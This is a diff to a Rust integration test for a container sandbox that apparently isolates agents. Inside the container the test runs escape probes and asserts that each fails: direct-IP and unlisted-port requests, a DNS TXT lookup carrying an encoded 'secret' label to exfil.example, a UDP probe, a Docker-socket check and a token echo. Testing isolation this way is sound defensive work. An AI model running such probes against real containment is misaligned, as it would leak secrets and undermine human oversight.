@@ -2,7 +2,7 @@
 //! Docker engine: the container (built locally from host files by
 //! `fixtures/build_sandbox_image.sh`, no registry) has no network but airlock's capture, so
 //! the escape checks of `airlock run` fail the same way inside it (direct IP, an unlisted
-//! port, DNS exfiltration over UDP, a refused host); commands stream; the private clone is exported back; git
+//! port, UDP to another port, DNS exfiltration, a refused host); commands stream; the private clone is exported back; git
 //! pushes with a surrogate token; teardown and a SIGKILLed daemon leave no container, no
 //! directory and no process behind.
 //!
@@ -115,6 +115,7 @@ fn a_docker_sandbox_streams_refuses_every_escape_and_rm_leaves_nothing() {
          curl -sSk --max-time 20 https://203.0.113.7/direct; echo; \
          curl -sS --max-time 5 http://198.51.100.9:8081/ >/dev/null 2>&1 || echo PORT-CLOSED; \
          nslookup -type=txt c2VjcmV0.exfil.example 192.0.2.53 >/dev/null 2>&1; echo DNS-ASKED; \
+         nslookup -port=9999 -timeout=2 -retry=1 udp-probe.example 198.51.100.1 >/dev/null 2>&1 || echo UDP-REFUSED; \
          ip -o link | wc -l; ls /var/run/docker.sock 2>/dev/null | wc -l; \
          echo \"$API_TOKEN\"; env | grep -c {real}"
     );
@@ -132,11 +133,15 @@ fn a_docker_sandbox_streams_refuses_every_escape_and_rm_leaves_nothing() {
         "an unlisted port must not connect: {run:?}"
     );
     assert_eq!(out[4], "DNS-ASKED", "{run:?}");
-    assert_eq!(out[5], "1", "only lo inside the container: {run:?}");
-    assert_eq!(out[6], "0", "no engine socket inside: {run:?}");
-    assert_eq!(out[7].len(), real.as_str().len(), "{run:?}");
-    assert_ne!(out[7], real.as_str());
-    assert_eq!(out[8], "0", "{run:?}");
+    assert_eq!(
+        out[5], "UDP-REFUSED",
+        "UDP to another port goes nowhere: {run:?}"
+    );
+    assert_eq!(out[6], "1", "only lo inside the container: {run:?}");
+    assert_eq!(out[7], "0", "no engine socket inside: {run:?}");
+    assert_eq!(out[8].len(), real.as_str().len(), "{run:?}");
+    assert_ne!(out[8], real.as_str());
+    assert_eq!(out[9], "0", "{run:?}");
     // The upstream got the real key; it was hit exactly once (the direct IP went nowhere).
     assert_eq!(upstream.hit_count(), 1);
     let hit = upstream.hits().pop().expect("hit");
@@ -153,6 +158,10 @@ fn a_docker_sandbox_streams_refuses_every_escape_and_rm_leaves_nothing() {
         );
     }
     assert!(!audit.contains(real.as_str()));
+    assert!(
+        !audit.contains("udp-probe"),
+        "UDP to port 9999 reached a server:\n{audit}"
+    );
 
     // The limits reached the container.
     let inspect = Command::new("docker")
@@ -243,6 +252,26 @@ fn a_docker_sandbox_clones_exports_pushes_and_survives_a_killed_daemon() {
     home.must(&["export", "dock"]);
     assert_eq!(log(&source.join(".git"), "airlock/dock"), "docker change");
     assert!(!source.join("agent.txt").exists());
+
+    // A repository named by URL is cloned from inside the container, through the proxy.
+    let mut remote_flags = flags[..8].to_vec();
+    remote_flags.extend([
+        "--repo".into(),
+        format!("https://other.test:{}/repo.git", server.port),
+    ]);
+    create(
+        &home,
+        "remote",
+        &remote_flags,
+        &[("GIT_TOKEN", real.as_str())],
+    );
+    let run = home.exec_json("remote", "git log -1 --format=%s from-docker; pwd");
+    assert_eq!(
+        run.stdout,
+        ["docker change", "/workspace/airlock-remote"],
+        "{run:?}"
+    );
+    home.must(&["rm", "remote"]);
 
     // kill -9 of the daemon: the next command finds the orphaned container and removes it.
     let daemon = home.daemon_pid("dock");
